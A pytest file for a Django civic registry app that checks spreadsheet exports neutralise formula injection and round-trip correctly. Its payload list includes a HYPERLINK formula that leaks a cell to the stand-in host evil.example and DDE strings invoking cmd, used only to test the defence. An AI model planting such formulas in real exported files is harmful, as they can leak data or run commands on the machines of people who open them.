"""Issue 11, finding 6: formula injection. Values that a spreadsheet would run as formulas leave the
XLSX and CSV exports neutralised (a leading single quote, OWASP), and an export -> import round trip
gives back the original values."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from django.test import Client

from civicgrid.core import exporting
from civicgrid.core.exporting import write_csv_zip, write_xlsx
from civicgrid.core.importing import read_tables
from civicgrid.engine.registry_format import TABLES
from civicgrid.registry import spreadsheet
from civicgrid.registry.models import Household

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "''+twice",
    "an ordinary address, 幸福路1号",
    "'just a quote",
]


def test_neutralise_and_unneutralise_are_exact_inverses() -> None:
    for value in PAYLOADS:
        shown = exporting.neutralise(value)
        assert not shown.startswith(("=", "+", "-", "@", "\t", "\r"))
        assert exporting.unneutralise(shown) == value


def _director() -> Client:
    client = Client()
    assert client.login(username="director", password="civicgrid-demo")
    return client


def _plant() -> list[str]:
    """Put the payloads in households' addresses (as a hostile import or form might)."""
    households = list(Household.objects.filter(place_path__startswith="D01/D01-S01/D01-S01-C01/").order_by("code")[:len(PAYLOADS)])
    assert len(households) == len(PAYLOADS)
    for household, payload in zip(households, PAYLOADS, strict=True):
        Household.objects.filter(pk=household.pk).update(address=payload)
    return [h.code for h in households]


def test_xlsx_export_holds_no_formula_and_round_trips() -> None:
    from openpyxl import load_workbook

    codes = _plant()
    response = _director().post("/registry/export/", {"format": "xlsx", "confirm_unmasked": "on"})
    assert response.status_code == 200 and response.streaming  # sent from a file, never held whole
    body = response.getvalue()
    book = load_workbook(io.BytesIO(body), data_only=False)
    formulas = [c.coordinate for sheet in book.worksheets for row in sheet.iter_rows() for c in row
                if c.data_type == "f"]
    assert formulas == []
    sheet = book[next(k for k, v in spreadsheet.header_aliases()[0].items() if v == "households" and k in book)]
    addresses = {row[0]: row[2] for row in sheet.iter_rows(min_row=2, values_only=True)}
    for code, payload in zip(codes, PAYLOADS, strict=True):
        assert addresses[code] == exporting.neutralise(payload)
    tables, columns = spreadsheet.header_aliases()  # sheets and headers in the user's language
    read = read_tables(io.BytesIO(body), filename="export.xlsx", expected=TABLES, table_aliases=tables,
                       column_aliases=columns)
    imported = {r["code"]: r["address"] for r in read["households"]}
    for code, payload in zip(codes, PAYLOADS, strict=True):
        assert imported[code] == payload


def test_csv_export_prefixes_formulas_and_round_trips() -> None:
    codes = _plant()
    response = _director().post("/registry/export/", {"format": "zip", "confirm_unmasked": "on"})
    assert response.status_code == 200 and response.streaming
    body = response.getvalue()
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        text = archive.read("households.csv").decode("utf-8-sig")
    cells = {row[0]: row[2] for row in csv.reader(io.StringIO(text))}
    for code, payload in zip(codes, PAYLOADS, strict=True):
        assert not cells[code].startswith(("=", "+", "-", "@", "\t", "\r"))
        assert cells[code] == exporting.neutralise(payload)
    read = read_tables(io.BytesIO(body), filename="export.zip", expected=TABLES)
    imported = {r["code"]: r["address"] for r in read["households"]}
    for code, payload in zip(codes, PAYLOADS, strict=True):
        assert imported[code] == payload


def test_the_writers_neutralise_every_table() -> None:
    tables = {"people": (TABLES["people"], [["P1", "=1+1", "", ""], ["P2", "-1", "", ""]])}
    with zipfile.ZipFile(io.BytesIO(write_csv_zip(tables))) as archive:
        assert "'=1+1" in archive.read("people.csv").decode("utf-8-sig")
    from openpyxl import load_workbook

    sheet = load_workbook(io.BytesIO(write_xlsx(tables)))["people"]
    assert [c.data_type for c in sheet[2]] == ["s", "s", "s", "s"] or sheet["B2"].data_type != "f"
    assert sheet["B2"].value == "'=1+1" and sheet["B3"].value == "'-1"


def test_the_csv_export_is_streamed_in_small_chunks(monkeypatch: pytest.MonkeyPatch) -> None:
    """Issue 15: a district's export starts at once and is never held whole: the ZIP comes out in chunks
    of a few rows each (here 100 rows) as the database is read, and they still make one valid archive."""
    monkeypatch.setattr(exporting, "STREAM_ROWS", 100)
    response = _director().post("/registry/export/", {"format": "zip", "confirm_unmasked": "on"})
    assert response.status_code == 200 and response.streaming
    chunks = [c for c in response.streaming_content if c]  # type: ignore[union-attr]
    body = b"".join(chunks)
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        residents = archive.read("residents.csv").decode("utf-8-sig").count("\r\n") - 1
    assert residents > 500 and len(chunks) >= residents // 100
    assert sorted(len(c) for c in chunks)[len(chunks) // 2] < len(body) / 20  # most chunks are small
